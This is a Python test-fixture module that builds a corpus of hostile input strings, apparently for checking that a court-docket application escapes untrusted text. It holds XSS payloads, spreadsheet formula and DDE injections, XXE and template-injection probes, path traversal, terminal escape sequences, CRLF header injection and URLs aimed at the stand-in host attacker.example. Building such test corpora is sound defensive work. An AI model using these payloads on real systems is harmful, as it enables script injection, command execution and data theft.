"""Texts that try to be more than texts, by what they try; for every test that asks whether one of them came alive.

`MARK` stands in all that would run: where it stands as an element, a handler, an address, a formula, a name of a file
or a line of its own, something was obeyed. People and hosts are invented.
"""
from typing import Final

MARK: Final = "zqalive"
ELSEWHERE: Final = "attacker.example"
ESC, CSI, BEL = "\x1b", "\x9b", "\x07"

MARKUP: Final = {
    "script": f"<script>{MARK}()</script>",
    "out of a title": f"</title></style></textarea></noscript><script>{MARK}()</script>",
    "out of a comment": f"--><svg onload={MARK}()><!--",
    "an image": f"<img src=x onerror={MARK}()>",
    "a picture in SVG": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}()"><a xlink:href="javascript:{MARK}">',
    "MathML": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}()&gt;'>",
    "a frame": f'<iframe srcdoc="&lt;script&gt;{MARK}()&lt;/script&gt;"></iframe>',
    "a base": f'<base href="https://{ELSEWHERE}/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url=https://{ELSEWHERE}/{MARK}">',
    "a form": f'<form action="https://{ELSEWHERE}/"><input name={MARK} autofocus onfocus={MARK}()>',
    "a style": f"<style>@import 'https://{ELSEWHERE}/{MARK}.css';</style>",
    "a link": f'<a href="javascript:{MARK}()">here</a>',
    "out of an attribute": f'" onmouseover="{MARK}()" x="',
    "out of another": f"' onfocus='{MARK}()' autofocus x='",
    "out of a bare one": f"x onfocus={MARK}() autofocus",
    "a back quote": f"`onmouseover={MARK}()`",
    "upper case": f"<SCRIPT SRC=//{ELSEWHERE}/{MARK}.js></SCRIPT>",
    "a NUL within": f"<scr\0ipt>{MARK}()</scr\0ipt>",
    "full-width": f"＜script＞{MARK}()＜/script＞",
    "entities": f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;img src=x onerror={MARK}()&#62;",
    "half an entity": f"&#x3c;script{MARK} &amp;lt; &nbsp &",
    "a template": "{{ " + MARK + " }}{% include '/etc/hostname' %}{# x #}{{ ''.__class__.__mro__ }}",
    "a format": "{0.__class__} {look} %(n)s %s %n ${" + MARK + "} $(" + MARK + ")",
}
SCRIPTS: Final = {
    "out of a string": f"\";{MARK}();//",
    "out of another string": f"';{MARK}();//",
    "a backslash": f"\\\";{MARK}();//\\",
    "line ends of a script": f"a\u2028{MARK}()\u2029b",
    "the end of a script": f"</script><script>{MARK}()</script>",
    "the end of a script, spaced": f"</script \t><script>{MARK}()</script>",
    "a comment in a script": f"<!--<script>{MARK}()",
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "an own property": "hasOwnProperty",
}
ADDRESSES: Final = {
    "a script for an address": f"javascript:{MARK}()",
    "one in mixed case": f"JaVa\tScRiPt:{MARK}()",
    "one after a control": f"\x01javascript:{MARK}()",
    "a page as data": f"data:text/html,<script>{MARK}()</script>",
    "VBScript": f"vbscript:{MARK}",
    "another host": f"//{ELSEWHERE}/{MARK}",
    "a back slash host": f"https:\\\\{ELSEWHERE}\\{MARK}",
    "a user": f"https://www.courtlistener.com@{ELSEWHERE}/{MARK}",
    "a host with a head": f"https://www.courtlistener.com.{ELSEWHERE}/{MARK}",
    "a file": f"file:///etc/{MARK}",
}
STYLES: Final = {
    "a rule": f"}} body {{ background: url(https://{ELSEWHERE}/{MARK}) }}",
    "an expression": f"expression({MARK}())",
    "an import": f"@import url(https://{ELSEWHERE}/{MARK}.css);",
}
FORMULAS: Final = {
    "equals": f"=HYPERLINK(\"https://{ELSEWHERE}/{MARK}\",\"x\")",
    "plus": f"+{MARK}|' /C calc'!A0",
    "minus": f"-2+3+{MARK}|' /C calc'!A0",
    "at": f"@SUM(1+1)*{MARK}|' /C calc'!A0",
    "after a tab": f"\t=1+{MARK}",
    "after a return": f"\r=1+{MARK}",
    "after a line end": f"\n=1+{MARK}",
    "after blanks": f"  =1+{MARK}",
    "after a hard blank": f"\u00a0=1+{MARK}",
    "after a mark of order": f"\ufeff=1+{MARK}",
    "after nothing to see": f"\u200b=1+{MARK}",
    "after a NUL": f"\0=1+{MARK}",
    "full-width equals": f"＝1+{MARK}",
    "full-width plus": f"＋1+{MARK}",
    "full-width minus": f"－1+{MARK}",
    "full-width at": f"＠SUM(1)+{MARK}",
    "after a semicolon": f"a;=1+{MARK};+1;@x",
    "a cell of its own": f"a\",=1+{MARK},\"",
    "a row of its own": f"a\"\r\n=1+{MARK},\"",
    "a quote before": f"\"=1+{MARK}",
    "DDE": f"=cmd|'/C {MARK}'!'A1'",
}
TERMINAL: Final = {
    "clear": f"{ESC}[2J{ESC}[H{MARK}",
    "a title of a window": f"{ESC}]0;{MARK}{BEL}",
    "the clipboard": f"{ESC}]52;c;enFhbGl2ZQ=={BEL}",
    "a link of a terminal": f"{ESC}]8;;https://{ELSEWHERE}/{MARK}{ESC}\\x{ESC}]8;;{ESC}\\",
    "one byte for two": f"{CSI}31m{MARK}\x9d0;{MARK}\x9c",
    "over what stood": f"safe\r{MARK}\x08\x08\x08",
    "answers back": f"{ESC}[6n{ESC}[c{ESC}P$q\"p{ESC}\\",
    "delete": f"a\x7f\x7f{MARK}",
    "turned": f"abc\u202e{MARK}\u202c\u2066\u2067\u2069\u200f\u061c",
    "nothing to see": f"a\u200b\u200d\u2060\ufeff{MARK}\u00ad\U000e0041",
    "markup of a progress bar": f"[bold red]{MARK}[/] [link=https://{ELSEWHERE}]x[/link]",
}
XML: Final = {
    "end of CDATA": f"]]><{MARK}/><![CDATA[",
    "a document type": f'<!DOCTYPE x [<!ENTITY {MARK} SYSTEM "file:///etc/hostname">]>&{MARK};',
    "an instruction": f"<?xml-stylesheet href='https://{ELSEWHERE}/{MARK}'?>",
    "what XML forbids": f"a\x00b\x0bc\x0cd\x1fe\ufffef\uffffg{MARK}",
    "half a character": f"half \ud83d of one, and the other \ude00 {MARK}",
    "no character": "\ufdd0\U0001fffe\U0010ffff",
}
LINES: Final = {
    "a property of a calendar": f"x\r\nATTACH:https://{ELSEWHERE}/{MARK}\r\nEND:VEVENT",
    "an event of its own": f"x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:{MARK}",
    "a folded line": f"x\r\n ATTACH;VALUE=URI:https://{ELSEWHERE}/{MARK}",
    "other ends of lines": f"x\x0bA:{MARK}\x0cB:\x85C:\u2028D:\u2029E:",
    "a header": f"x\r\nBcc: all@{ELSEWHERE}\r\nX-{MARK}: 1\r\n\r\n<b>{MARK}</b>",
    "commas and colons": "a;b,c:d\\n\\;\\,\\\\",
    "Markdown": f"[x](javascript:{MARK}) ![x](https://{ELSEWHERE}/{MARK}) <b>b</b> # h\n\n# h\n```\n~~~\n- [ ] *x*",
    "a call to everybody": f"@everyone @here <!channel> <@U1> #tag /invite {MARK}",
}
PATHS: Final = {
    "upwards": f"../../../../tmp/{MARK}",
    "upwards, coded": f"..%2f..%2f{MARK}",
    "upwards, the other way": f"..\\..\\{MARK}",
    "from the root": f"/tmp/{MARK}",
    "an end": f"{MARK}\0.html",
    "a device": "CON",
    "a dot": ".",
    "two dots": "..",
    "a hidden file": f".{MARK}",
    "very long": f"{MARK}-" + "x" * 4_000,
}
SIZES: Final = {
    "a long word": MARK + "W" * 5_000,
    "a giant": "ORDER " * 2_000 + MARK,
    "many marks": "&<>\"'" * 3_000,
    "accents on accents": "e" + "\u0301" * 2_000,
    "many lines": "\r\n".join(["one"] * 500),
    "nothing": "",
    "only blanks": " \t\r\n\u00a0\u3000",
}
DAYS: Final = {
    "the last year": f"ORDER that {MARK} be answered within 14 days. Signed by Judge Marlow on December 30, 9999.",
    "its business days": f"ORDER: {MARK} is due within 7 business days. Signed by Judge Marlow on 12/28/9999.",
    "the first year": f"ORDER: {MARK} is due the day before. Signed by Judge Marlow on January 1, 0001.",
    "a year of three digits": f"ORDER: {MARK} is due within 3 business days. Signed by Judge Marlow on 1/1/100.",
}

FAMILIES: Final = {
    "markup": MARKUP, "scripts": SCRIPTS, "addresses": ADDRESSES, "styles": STYLES, "formulas": FORMULAS,
    "terminal": TERMINAL, "xml": XML, "lines": LINES, "paths": PATHS, "sizes": SIZES,
    "days": DAYS,
}
CORPUS: Final = {f"{family}: {name}": text for family, texts in FAMILIES.items() for name, text in texts.items()}
"""All of them, by family and name."""
